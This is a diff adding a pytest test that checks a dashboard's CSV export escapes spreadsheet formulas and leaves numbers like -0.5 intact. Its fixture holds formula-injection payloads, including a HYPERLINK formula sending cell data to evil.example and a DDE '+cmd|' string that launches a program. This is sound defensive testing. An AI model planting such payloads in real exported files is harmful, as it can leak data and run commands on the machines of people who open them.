@@ -18,10 +18,12 @@ from contextlib import contextmanager
 
 import pytest
 import uvicorn
+from sqlalchemy import update
 from sqlalchemy.orm import Session
 
 from dashboard import auth
 from dashboard.db import utc_now
+from dashboard.models import Result
 from dashboard.store import Batch, FleetStore, Received
 from dashboard.web import create_app
 from edge_app.mqtt import schema
@@ -205,6 +207,25 @@ def test_csv_export_follows_the_filters(stored):
         assert nurse.request("/export/results.csv?date_from=2025-13-01")[0] == 400
         assert nurse.request("/export/secrets.csv")[0] == 404
         assert Browser(base).request("/export/results.csv")[0] == 303  # login first
+
+
+def test_csv_export_defuses_spreadsheet_formulas_but_keeps_numbers(stored):
+    engine, payloads = stored
+    formulas = {"screening_id": '=HYPERLINK("http://evil.example/?"&A1,"open")',
+                "app_version": "@SUM(1+1)", "model_name": "+cmd|' /C calc'!A0",
+                "model_sha256": "-2+3", "device": "\tus-001"}
+    with Session(engine) as session:
+        session.execute(update(Result).where(Result.result_id == payloads[0]["result_id"])
+                        .values(probability=-0.5, **formulas))
+        session.commit()
+    with serving(engine) as base:
+        nurse = Browser(base)
+        nurse.login("nurse", STAFF_PASSWORD)
+        rows = list(csv.DictReader(io.StringIO(nurse.request("/export/results.csv")[2])))
+    row = next(r for r in rows if r["result_id"] == payloads[0]["result_id"])
+    assert {name: row[name] for name in formulas} == {
+        name: "'" + text for name, text in formulas.items()}
+    assert row["probability"] == "-0.5" and row["usable_frames"] == "80"
 
 
 def test_no_auth_mode_opens_everything_and_says_so(stored):
